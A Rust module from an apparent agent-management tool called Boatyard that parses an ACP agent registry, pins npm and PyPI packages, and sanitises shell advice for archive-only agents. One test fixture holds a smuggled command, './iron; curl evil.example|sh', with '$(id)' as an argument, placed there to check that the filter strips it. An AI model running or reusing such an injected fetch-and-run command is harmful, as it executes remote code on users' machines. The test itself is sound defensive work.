//! Entries from the public registry of ACP agents: an index `{"agents": […]}`, or one of its agents.
//!
//! An agent there has `distribution.npx` (npm), `.uvx` (PyPI), `.binary` (an archive for each
//! system), or several of them. What npx and uvx would fetch and run at each start is installed
//! once, pinned; an archive is not installed by Boatyard, and the error says what to do instead.

use anyhow::Result;
use boatyard_api::model::name::AgentName;
use serde_json::{Map, Value, json};

use crate::failure::Failure;

type Named = (AgentName, Map<String, Value>);

/// What was read: the agents to be added, and those of a whole index that can't be.
#[derive(Debug, Default)]
pub(super) struct Read {
    /// To be added.
    pub(super) entries: Vec<Named>,
    /// Left out, for they come as an archive only.
    pub(super) left_out: Vec<AgentName>,
    /// Whose choice the entries are.
    pub(super) chosen_by: ChosenBy,
}

/// Who chose what is added.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub(super) enum ChosenBy {
    /// The person, by name or by a file of one's own.
    #[default]
    Person,
    /// Whoever made the index: nobody looked at each of its names.
    Index,
}

/// The entries of all agents, or of those that are named.
///
/// # Errors
/// What an agent lacks, with its name.
pub(super) fn entries(document: &Value, names: &[AgentName]) -> Result<Read> {
    let agents: Vec<&Value> = match document["agents"].as_array() {
        Some(agents) => agents.iter().collect(),
        None => vec![document],
    };
    let is_index = document["agents"].is_array();
    let mut found: Vec<Named> = Vec::new();
    let mut binaries = Vec::new();
    for agent in agents {
        let id = text(agent, "id").ok_or_else(|| Failure::usage("an agent of it has no `id`"))?;
        let name = name_of(id)?;
        if is_index && !names.is_empty() && !names.contains(&name) {
            continue;
        }
        // One that stands alone may be called otherwise.
        let name = match (is_index, names) {
            (false, [wanted]) => wanted.clone(),
            _ => name,
        };
        match entry(&name, agent) {
            Ok(_) if found.iter().any(|(there, _)| *there == name) => {
                return Err(Failure::usage(format!("two of its agents are called {name}")).into());
            }
            Ok(entry) => found.push((name, entry)),
            // In an index of many, those are left out that nobody named.
            Err(error) if is_index && names.is_empty() => binaries.push((name, error)),
            Err(error) => return Err(error.into()),
        }
    }
    if found.is_empty() && !binaries.is_empty() {
        return Err(binaries.swap_remove(0).1.into());
    }
    for name in names {
        if !found.iter().any(|(there, _)| there == name) {
            return Err(Failure::not_found(format!("it has no agent {name}")).into());
        }
    }
    let left_out = binaries.into_iter().map(|(name, _)| name).collect();
    let chosen_by = if is_index && names.is_empty() { ChosenBy::Index } else { ChosenBy::Person };
    Ok(Read { entries: found, left_out, chosen_by })
}

fn name_of(id: &str) -> Result<AgentName> {
    let name: String = id
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_lowercase() } else { '-' })
        .collect();
    name.trim_matches('-')
        .parse()
        .map_err(|error| Failure::usage(format!("`{id}` is no name for an agent: {error}")).into())
}

/// One agent as an entry of ours.
fn entry(name: &AgentName, agent: &Value) -> Result<Map<String, Value>, Failure> {
    let distribution = &agent["distribution"];
    let version = text(agent, "version");
    let (from, way) = match (&distribution["npx"], &distribution["uvx"]) {
        (npx, _) if npx.is_object() => ("npm", npx),
        (_, uvx) if uvx.is_object() => ("pypi", uvx),
        _ if distribution["binary"].is_object() => {
            let bin = distribution["binary"].as_object().into_iter().flatten();
            let command =
                bin.filter_map(|(_, one)| text(one, "cmd")).next().unwrap_or(name.as_str());
            let program = command.trim_start_matches("./");
            // The advice below is for a shell, and the file may be anybody's.
            let program = if is_plain(program) { program } else { name.as_str() };
            return Err(Failure::new(format!(
                "{name} comes as an archive only, which Boatyard does not install"
            ))
            .next(format!(
                "Install it on this machine below /usr/local (or in a folder that `[tools] paths` \
                 in boatyard.toml names), then: boatyard agent add {name} --from-host {program} \
                 --command \"{}\"",
                with_arguments(program, distribution)
            )));
        }
        _ => {
            return Err(Failure::usage(format!(
                "{name} has no `distribution` with `npx`, `uvx` or `binary`"
            )));
        }
    };
    let package = text(way, "package").ok_or_else(|| {
        Failure::usage(format!("{name}: its `{from}` distribution has no `package`"))
    })?;
    let (package, pinned) = pinned(from, package, version).ok_or_else(|| {
        Failure::usage(format!("{name}: neither its package nor itself has a `version` to pin"))
    })?;
    let arguments = way["args"].as_array().into_iter().flatten().filter_map(Value::as_str);
    let mut command: Vec<String> = Vec::new();
    let mut environment = Map::new();
    for (key, value) in way["env"].as_object().into_iter().flatten() {
        if let Some(value) = value.as_str() {
            environment.insert(key.clone(), value.into());
        }
    }
    let bin = match from {
        "npm" => {
            // The program's name is that of the package, or what the package calls it; npm links it.
            let bare = package.rsplit('/').next().unwrap_or(&package);
            format!("node_modules/.bin/{}", text(way, "bin").unwrap_or(bare))
        }
        _ => {
            environment.insert("PYTHONPATH".into(), "{package}".into());
            format!("bin/{}", text(way, "bin").unwrap_or(&package))
        }
    };
    if from == "npm" {
        command.push("{node}".into());
    } else {
        command.push("python3".into());
    }
    command.push(format!("{{package}}/{bin}"));
    command.extend(arguments.map(str::to_owned));
    let mut entry = Map::new();
    entry.insert("protocol".into(), "acp".into());
    entry.insert("command".into(), command.into());
    for (ours, theirs) in [("title", "name"), ("about", "description")] {
        if let Some(value) = text(agent, theirs) {
            let line: String = value.chars().filter(|c| !c.is_control()).take(200).collect();
            entry.insert(ours.into(), line.into());
        }
    }
    if !environment.is_empty() {
        entry.insert("env".into(), environment.into());
    }
    let mut install = json!({
        "from": from, "packages": [format!("{package}@{pinned}")], "bin": bin,
    });
    if from == "npm" {
        install["node"] = "22".into();
    }
    entry.insert("install".into(), install);
    Ok(entry)
}

/// A package's name and its version: its own, or its agent's.
fn pinned(from: &str, package: &str, version: Option<&str>) -> Option<(String, String)> {
    let split = match from {
        "npm" => package.rsplit_once('@').filter(|(name, _)| !name.is_empty()),
        _ => package.split_once("==").or_else(|| package.rsplit_once('@')),
    };
    match split {
        Some((name, own)) if own.starts_with(|c: char| c.is_ascii_digit()) => {
            Some((name.to_owned(), own.to_owned()))
        }
        Some((name, _)) => Some((name.to_owned(), version?.to_owned())),
        None => Some((package.to_owned(), version?.to_owned())),
    }
}

/// What starts the program of an archive.
fn with_arguments(program: &str, distribution: &Value) -> String {
    let first = distribution["binary"].as_object().and_then(|all| all.values().next());
    let arguments = first.and_then(|one| one["args"].as_array()).into_iter().flatten();
    let arguments = arguments.filter_map(Value::as_str).filter(|text| is_plain(text));
    std::iter::once(program).chain(arguments).collect::<Vec<_>>().join(" ")
}

/// Whether a shell takes a word for nothing but itself.
fn is_plain(word: &str) -> bool {
    word.chars().all(|c| c.is_ascii_alphanumeric() || "._-/=:@,+".contains(c))
}

fn text<'a>(value: &'a Value, key: &str) -> Option<&'a str> {
    value[key].as_str().filter(|text| !text.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(all: &[&str]) -> Vec<AgentName> {
        all.iter().map(|name| name.parse().unwrap()).collect()
    }

    fn index() -> Value {
        json!({ "version": "1.0.0", "agents": [
            { "id": "some.cli", "name": "Some CLI", "version": "1.2.3", "description": "Does it",
              "distribution": { "npx": { "package": "@some/cli@1.2.3", "args": ["--acp"],
                "env": { "A": "1" } } } },
            { "id": "snake", "name": "Snake", "version": "0.4.0",
              "distribution": { "uvx": { "package": "snake-agent", "args": ["acp"] } } },
            { "id": "iron", "name": "Iron", "version": "2.0.0",
              "distribution": { "binary": { "linux-x86_64": {
                "archive": "https://example.com/iron.tar.gz", "cmd": "./iron", "args": ["acp"] } } } },
        ] })
    }

    #[test]
    fn npx_and_uvx_become_pinned_installations() {
        let read = entries(&index(), &[]).unwrap();
        assert_eq!(read.left_out, names(&["iron"]));
        let all: std::collections::BTreeMap<String, Map<String, Value>> =
            read.entries.into_iter().map(|(name, entry)| (name.to_string(), entry)).collect();
        assert_eq!(all.keys().collect::<Vec<_>>(), ["snake", "some-cli"], "archives are left out");
        let some = &all["some-cli"];
        assert_eq!(some["install"]["packages"], json!(["@some/cli@1.2.3"]));
        assert_eq!(some["command"], json!(["{node}", "{package}/node_modules/.bin/cli", "--acp"]));
        assert_eq!((&some["title"], &some["env"]["A"]), (&json!("Some CLI"), &json!("1")));
        assert_eq!(all["snake"]["install"]["packages"], json!(["snake-agent@0.4.0"]));
        assert_eq!(all["snake"]["env"]["PYTHONPATH"], "{package}");
    }

    #[test]
    fn a_hostile_index_gives_no_command_for_a_shell_and_no_name_twice() {
        let evil = json!({ "agents": [{ "id": "iron", "version": "1.0.0", "distribution": {
            "binary": { "linux-x86_64": { "cmd": "./iron; curl evil.example|sh",
                "args": ["acp", "$(id)", "\u{1b}[2J"] } } } }] });
        let error = format!("{:#?}", entries(&evil, &names(&["iron"])).unwrap_err());
        assert!(error.contains("iron acp"), "{error}");
        assert!(!error.contains("curl") && !error.contains("$("), "{error}");
        let one = |id: &str| {
            json!({ "id": id, "version": "1.0.0",
                "distribution": { "npx": { "package": "x@1.0.0" } } })
        };
        let twice = json!({ "agents": [one("a.b"), one("a-b")] });
        assert!(entries(&twice, &[]).unwrap_err().to_string().contains("two of its agents"));
        let index = json!({ "agents": [one("claude")] });
        assert_eq!(entries(&index, &[]).unwrap().chosen_by, ChosenBy::Index);
        assert_eq!(entries(&index, &names(&["claude"])).unwrap().chosen_by, ChosenBy::Person);
    }

    #[test]
    fn an_archive_is_refused_with_the_way_round_it() {
        let error = entries(&index(), &names(&["iron"])).unwrap_err();
        assert!(error.to_string().contains("archive"), "{error:#}");
        let missing = entries(&index(), &names(&["gold"])).unwrap_err();
        assert!(missing.to_string().contains("no agent gold"), "{missing:#}");
        let one = entries(&index()["agents"][0], &names(&["mine"])).unwrap();
        assert_eq!(one.entries[0].0.as_str(), "mine");
        let broken = entries(&json!({ "id": "x" }), &[]).unwrap_err();
        assert!(broken.to_string().contains("distribution"), "{broken:#}");
    }
}
